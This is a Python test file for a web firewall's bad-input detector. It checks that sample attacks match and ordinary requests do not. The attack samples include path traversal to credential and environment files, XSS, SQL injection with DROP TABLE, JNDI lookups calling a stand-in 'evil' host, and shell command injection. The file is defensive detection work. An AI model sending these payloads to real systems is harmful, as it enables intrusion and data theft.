"""The patterns of bad input: what attacks look like fits, what people write does not."""

from __future__ import annotations

import re

import pytest

from flyball.core.bad_input import BAD_INPUT
from flyball.core.model import Firewall, FirewallAction, RateLimit

PATTERNS = {pattern.name: re.compile(pattern.regex, re.IGNORECASE | re.DOTALL) for pattern in BAD_INPUT}
COUNT = FirewallAction.COUNT


def found(text: str) -> set[str]:
    return {name for name, regex in PATTERNS.items() if regex.search(text)}


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("/?f=..%2f..%2fetc%2fpasswd", "files"),
        ("/view?page=/proc/self/environ", "files"),
        ("/.git/config", "files"),
        ("/.env", "files"),
        ("/?q=%3CScRiPt%3Ealert(1)", "script"),
        ("/?q=<svg/onload=alert(1)>", "script"),
        ("/?next=javascript:alert(1)", "script"),
        ("/?id=1%20UNION%20ALL%20SELECT%20password", "sql"),
        ("/?id=1'+or+'1'='1", "sql"),
        ("/?id=1;DROP+TABLE users", "sql"),
        ("/?x=${jndi:ldap://evil/a}", "lookup"),
        ("/?x=%24%7Bjndi:dns://evil%7D", "lookup"),
        ("/?host=127.0.0.1;cat+/etc/hosts", "shell"),
        ("/?cmd=`id`", "shell"),
        ("/?cmd=$(whoami)", "shell"),
        ("/file%00.png", "null byte"),
    ],
)
def test_attacks_fit(text: str, name: str) -> None:
    assert name in found(text)


@pytest.mark.parametrize(
    "text",
    [
        "/",
        "/api/posts?limit=20&cursor=abc%3D%3D",
        "/search?q=how+to+select+a+union+representative",
        "/search?q=rock+%27n%27+roll+or+jazz",
        "/search?q=it%27s+me+and+you",
        "/search?q=drop+tables+by+the+bed",
        "/scripts/app.js?v=1;2",
        "/environment/prices?currency=%24",
        "/upload/etc/passwords.pdf",
        "/shop?cat=5;color=red",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0 Safari/537.36",
        "AWSALB=abc; theme=dark; id=77",
    ],
)
def test_honest_requests_do_not(text: str) -> None:
    assert found(text) == set()


def test_each_rule_has_a_name_and_an_action() -> None:
    two = Firewall(
        deny=("10.0.0.0/8",),
        bad_input=COUNT,
        rates=(RateLimit(requests=1, per_s=1), RateLimit(requests=2, per_s=1, action=COUNT)),
    )
    assert {name: two.of_rule(name).value for name in two.rules} == {
        "deny": "block",
        "bad_input": "count",
        "rate-1": "block",
        "rate-2": "count",
    }
    assert Firewall(rates=two.rates[:1], action=COUNT).of_rule("rate") is COUNT
    assert Firewall().rules == ()
